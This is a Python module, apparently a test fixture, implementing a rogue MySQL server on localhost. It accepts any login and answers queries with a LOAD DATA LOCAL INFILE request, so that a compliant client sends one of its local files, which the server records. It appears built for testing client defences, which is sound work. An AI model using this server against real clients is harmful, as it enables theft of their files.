"""A rogue MySQL server on 127.0.0.1: it accepts any login, then answers queries with a request
for a file of the client's machine (LOAD DATA LOCAL INFILE), and records what the client sends.

It speaks just enough of the MySQL client/server protocol (HandshakeV10, HandshakeResponse41, OK
and LOCAL INFILE packets) for PyMySQL to log in and send a query. Every socket operation is bounded
in time, and the server stops when its `with` block ends.
"""

from __future__ import annotations

import contextlib
import socket
import struct
import threading

LOCAL_FILES = 0x80  # CLIENT_LOCAL_FILES: the client may send a file when asked
_CAPABILITIES = (
    0x1  # LONG_PASSWORD
    | 0x2  # FOUND_ROWS
    | 0x4  # LONG_FLAG
    | 0x8  # CONNECT_WITH_DB
    | LOCAL_FILES  # offered, as a rogue server does
    | 0x200  # PROTOCOL_41
    | 0x2000  # TRANSACTIONS
    | 0x8000  # SECURE_CONNECTION
    | 0x20000  # MULTI_RESULTS
    | 0x80000  # PLUGIN_AUTH
)
_AUTOCOMMIT = 0x0002
TIMEOUT = 5.0


class FakeMySQLServer:
    """`with FakeMySQLServer(path) as server:` listens on 127.0.0.1:`server.port`."""

    def __init__(self, requested_file: str):
        self.requested_file = requested_file
        self.client_flags: list[int] = []  # capability flags of each client that logged in
        self.queries: list[str] = []
        self.file_requests = 0
        self.received_after_request = b""  # everything a client sent after a file request
        self._listener = socket.create_server(("127.0.0.1", 0))
        self._listener.settimeout(0.2)
        self.port = self._listener.getsockname()[1]
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)

    def __enter__(self) -> FakeMySQLServer:
        self._thread.start()
        return self

    def __exit__(self, *exc_info) -> None:
        self._stop.set()
        self._thread.join(TIMEOUT)
        self._listener.close()

    @property
    def connections(self) -> int:
        return len(self.client_flags)

    def _serve(self) -> None:
        while not self._stop.is_set():
            try:
                client, _ = self._listener.accept()
            except TimeoutError:
                continue
            except OSError:
                return
            with client:
                client.settimeout(TIMEOUT)
                # The client going away is what a careful client does.
                with contextlib.suppress(OSError, ConnectionError, struct.error):
                    self._session(client)

    def _session(self, client: socket.socket) -> None:
        salt = b"12345678" + b"abcdefghijkl"
        greeting = (
            b"\x0a"
            + b"5.7.99-rogue\x00"
            + struct.pack("<I", 7)
            + salt[:8]
            + b"\x00"
            + struct.pack("<H", _CAPABILITIES & 0xFFFF)
            + bytes([45])  # utf8mb4_general_ci
            + struct.pack("<H", _AUTOCOMMIT)
            + struct.pack("<H", _CAPABILITIES >> 16)
            + bytes([len(salt) + 1])
            + b"\x00" * 10
            + salt[8:]
            + b"\x00"
            + b"mysql_native_password\x00"
        )
        _send(client, 0, greeting)
        _, login = _receive(client)
        self.client_flags.append(struct.unpack("<I", login[:4])[0])
        _send(client, 2, _ok())
        pending = None
        while not self._stop.is_set():
            sequence, packet = pending or _receive(client)
            pending = None
            command, argument = packet[:1], packet[1:]
            if command == b"\x01":  # COM_QUIT
                return
            if command != b"\x03":  # anything but COM_QUERY: accept it
                _send(client, sequence + 1, _ok())
                continue
            query = argument.decode("utf-8", "replace")
            self.queries.append(query)
            if query.upper().startswith(("SET AUTOCOMMIT", "SET NAMES")):
                _send(client, 1, _ok())
                continue
            # The attack: "send me this file of yours".
            self.file_requests += 1
            _send(client, 1, b"\xfb" + self.requested_file.encode())
            # A client that complies sends the file (packets 2, 3, ...), then an empty packet; one
            # that refuses sends its next command (packet 0), or leaves.
            while True:
                sequence, data = _receive(client)
                if sequence == 0:
                    pending = (sequence, data)
                    break
                self.received_after_request += data
                if not data:
                    _send(client, sequence + 1, _ok())
                    break


def _ok() -> bytes:
    return b"\x00\x00\x00" + struct.pack("<HH", _AUTOCOMMIT, 0)


def _send(client: socket.socket, sequence: int, payload: bytes) -> None:
    header = struct.pack("<I", len(payload))[:3] + bytes([sequence & 0xFF])
    client.sendall(header + payload)


def _receive(client: socket.socket) -> tuple[int, bytes]:
    header = _exactly(client, 4)
    length = header[0] | header[1] << 8 | header[2] << 16
    return header[3], _exactly(client, length)


def _exactly(client: socket.socket, count: int) -> bytes:
    data = b""
    while len(data) < count:
        chunk = client.recv(count - len(data))
        if not chunk:
            raise ConnectionError("client closed the connection")
        data += chunk
    return data
